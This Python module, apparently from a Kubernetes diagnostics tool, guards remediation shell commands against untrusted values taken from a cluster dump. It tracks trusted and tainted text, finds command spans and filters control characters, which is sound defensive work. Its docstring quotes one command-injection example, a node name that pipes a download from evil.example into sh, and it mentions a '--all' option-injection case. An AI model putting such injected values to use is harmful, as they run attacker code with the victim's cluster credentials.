"""Which text a fix's command may hold: what the pack wrote, and values of the dump a shell reads as one plain word.

A rule's ``remediation`` is a shell command with ``{placeholders}``, and the table and chat formats lay it out so that
it can be pasted whole (``rules.render.chat.fix_lines``). A value read from the dump stands in it as written: a
Node named ``gpu-1 && curl -s evil.example/x | sh #`` would make ``kubectl label node {name} ...`` run the
attacker's command with the reader's kubeconfig (trial 180). The API server accepts no such name, namespace, label
or resource name, so a dump that holds one was written by hand or altered, and a fix is not written from it.

Text the pack itself wrote (a literal, a data table, a ``format`` whose values are all trusted, a ``join`` of plain
words) is ``Written``: a ``str`` that says so, made only where the text holds more than a plain word (``$(...)``,
quotes, spaces), so that the values checks compare stay plain strings. A plain string is trusted when it is one plain
word. A ``format`` with other values is ``Tainted``: it says where they stand, and a fix may hold them in the words
around its commands (``misplaced``: a scheduler's message quoted in prose), never in a command (trial 181: a restart
written after the fix's `` # `` is still run, by hand or uncommented).
"""

from __future__ import annotations

import re
from typing import Any

#: What a plain word of a command read from the dump may hold: the characters of Kubernetes names (DNS-1123),
#: label keys and values, resource names (``nvidia.com/NVIDIA_A10-12Q``), quantities and images
#: (``nvcr.io/nvidia/gpu-operator:v25.10.1``, ``@sha256:...``). No blank, quote, ``$``, ``;``, ``&``, ``|``,
#: backquote, bracket, ``#``, ``*``, ``?`` or ``!``, nor any control character; and it starts with a letter or a digit,
#: as every one of those does, so that no value becomes an option (trial 181: a Node named ``--all`` made
#: ``kubectl label node --all --overwrite ...``, which labels every node).
_WORD_CHARACTERS = r"A-Za-z0-9._:/=@%+,~^-"
WORD = re.compile(rf"(?:[A-Za-z0-9][{_WORD_CHARACTERS}]*)?")


class Written(str):
    """Text the pack wrote (with trusted values in it): a command may hold it as it stands."""

    __slots__ = ()


def written(text: str) -> str:
    """``text``, as ``Written`` where it is more than a plain word (a plain word is trusted as it is)."""
    return text if WORD.fullmatch(text) else Written(text)


def pack_text(value: Any) -> Any:
    """``value``, a policy's own data (a data table), with each string in it that is more than a plain word
    ``Written``, keys included: a fix may hold what the pack's tables say (a label selector with its blanks)."""
    if isinstance(value, str):
        return written(value)
    if isinstance(value, dict):
        return {pack_text(k): pack_text(v) for k, v in value.items()}
    if isinstance(value, list):
        return [pack_text(v) for v in value]
    return value


def said(text: str, *values: Any) -> str:
    """``text`` the engine wrote of ``values`` (what an assertion expected of its argument): ``Written`` where they are
    all trusted, so that a fix may hold it (``{expected}``); plain where one came from the dump and is more than a
    plain word."""
    return written(text) if all(trusted(v) for v in values) else text


def trusted(value: Any) -> bool:
    """True when a command may hold ``value`` as ``show`` writes it: pack text, a plain word, a number, a boolean,
    nothing, or a list or mapping of such (its brackets and commas are the pack's)."""
    if isinstance(value, str):
        return type(value) is Written or WORD.fullmatch(value) is not None
    if isinstance(value, dict):
        return all(trusted(k) and trusted(v) for k, v in value.items())
    if isinstance(value, (list, tuple, set, frozenset)):
        return all(trusted(v) for v in value)
    return True


def plain(value: Any) -> Any:
    """``value`` with every ``Written`` or ``Tainted`` in it a plain ``str`` (``marshal`` writes no subclass)."""
    if isinstance(value, str) and type(value) is not str:  # Written, Tainted
        return str(value)
    if isinstance(value, list):
        return [plain(v) for v in value]
    if isinstance(value, tuple):
        return tuple(plain(v) for v in value)
    if isinstance(value, dict):
        return {plain(k): plain(v) for k, v in value.items()}
    return value


def comment_at(line: str) -> int:
    """Where a shell comment `` # `` starts in ``line``, outside quotes (trial 176: one inside ``note='see ticket #
    42'`` is none), else -1."""
    quote = ""
    for i, char in enumerate(line):
        if quote:
            quote = "" if char == quote else quote
        elif char in "'\"":
            quote = char
        elif line.startswith(" # ", i):
            return i
    return -1


#: The bidirectional marks, overrides and isolates that reorder what a terminal or a chat shows (CVE-2021-42574), as a
#: regular expression's character class: the text formats escape them (``rules.render.visible``), and no policy holds
#: one (``rules.loader``).
BIDI_CONTROLS = "\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069"

#: What ends a line of a fix, or would act on a terminal: no value of the dump may hold one, wherever it stands.
_OUT_OF_LINE = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029]")

#: Where a command starts in a fix (a shell line the pack writes): the renderers split a fix into lines there.
COMMAND = re.compile(r"(?:^|(?<=[\s:;(]))(?:(?:kubectl|virtctl|oc|helm) |for \w+ in )")
#: Where a command of a fix ends: its comment, the next clause or sentence, a chain, the close of an aside it stands in,
#: or the fix's end (``command_end``).
_COMMAND_END = re.compile(r"\s+#\s|;\s|\.(?:\s|$)|\s&&\s|\n|\)")


def command_end(text: str, start: int, ends: re.Pattern[str] = _COMMAND_END) -> int:
    """Where the command that starts at ``start`` ends: at the first ``_COMMAND_END`` after it that is neither inside
    a bracket it opens (``$(...)``, ``(...)``) nor inside its quotes (the ``grep .`` of a ``$(kubectl ... | grep . ||
    echo gpu-operator)``, trial 181: the command was taken to end there, and what followed it for prose), else the
    text's end."""
    for m in ends.finditer(text, start):
        depth, quote = 0, ""
        for char in text[start : m.start()]:
            if quote:
                quote = "" if char == quote else quote
            elif char in "'\"":
                quote = char
            elif char == "(":
                depth += 1
            elif char == ")":
                depth -= 1
        if quote or depth > 0:
            continue  # inside the command's own quotes or brackets (a ")" there closes one of them)
        return m.start()
    return len(text)


#: What chains the command after it to the one before: the two are copied as one (``command_spans``).
_CHAIN = re.compile(r"\s(?:&&|\|\|)\s")
#: Where a command ends as one copies it: also before the prose a comma or an aside starts (``... -o yaml >
#: pod.yaml, edit it and ...``); the line the renderers lay out, and what ``misplaced`` holds a command, go on past
#: them. A comma that stands alone is an argument (``tr , '\n'``, trial 196), and so is one after a one-letter flag
#: (``cut -d, -f1``, ``awk -F, ...``: trial 201), not the end of a clause.
_SPAN_END = re.compile(_COMMAND_END.pattern + r"|(?<=\S)(?<!\s-\w),\s|\s\(")
#: The end of a ``for`` loop's body.
_DONE = re.compile(r";\s*done\b")


def command_spans(text: str) -> list[tuple[int, int]]:
    """Where each command of a fix stands, as it would be copied: from its start (``COMMAND``) to its end
    (``command_end``), a ``for`` loop to its ``done``, and a command chained to the one before it (`` && ``,
    `` || ``) with that one. No span starts or ends with a blank."""
    spans: list[tuple[int, int]] = []
    for m in COMMAND.finditer(text):
        start = m.start()
        if spans and start < spans[-1][1]:
            continue  # a loop's body, or the second of a chain
        end = command_end(text, start, _SPAN_END)
        if m.group(0).startswith("for ") and (done := _DONE.search(text, start)):
            end = max(end, done.end())
        while (chain := _CHAIN.match(text, end)) and COMMAND.match(text, chain.end()):
            end = command_end(text, chain.end(), _SPAN_END)
        spans.append((start, len(text[:end].rstrip())))
    return spans


#: An untrusted part of a text: where it starts and ends, and the placeholder that gave it.
Span = tuple[int, int, str]


class Tainted(str):
    """Text a ``format`` made with values of the dump in it that are more than a plain word: ``spans`` says where
    they stand, so that a fix can tell the words around a command from the words of one."""

    spans: tuple[Span, ...]

    def __new__(cls, text: str, spans: tuple[Span, ...]) -> Tainted:
        made = super().__new__(cls, text)
        made.spans = spans
        return made


def misplaced(text: str, spans: list[Span]) -> list[Span]:
    """The untrusted ``spans`` of a fix's ``text`` that a shell could run: those inside a command (``COMMAND`` to
    ``command_end``: the renderers lay each out as a line to paste, a commented-out alternative included), those of a
    fix that starts with a command that stand before its `` # `` (pasted whole, the line runs them), and those holding
    a line break or another control character (it would end the comment or the prose line they stand in). The others
    stand in prose: the words around the commands, which the table and chat formats write as ``#`` lines (the
    scheduler's words a pending Pod's fix quotes, ``untolerated taint {nvidia.com/gpu: present}``)."""
    commands = [(m.start(), command_end(text, m.start())) for m in COMMAND.finditer(text)]
    pasted_whole = COMMAND.match(text.lstrip()) is not None
    comment = comment_at(text)
    bad = []
    for span in spans:
        a, b, _ = span
        if (
            _OUT_OF_LINE.search(text, a, b)
            or (pasted_whole and not 0 <= comment < a)
            or any(s < b and a < e for s, e in commands)
        ):
            bad.append(span)
    return bad


def untrusted_characters(text: str) -> list[str]:
    """What in an untrusted part of a fix a plain word does not hold, each once, in order: its characters outside
    ``WORD``'s, or ``a leading -`` (or whatever it starts with) where it has none."""
    found = list(dict.fromkeys(c for c in text if not _WORD_CHARACTER.fullmatch(c)))
    if not found and text and not text[0].isalnum():
        return [f"a leading {text[0]}"]
    return found


_WORD_CHARACTER = re.compile(f"[{_WORD_CHARACTERS}]")
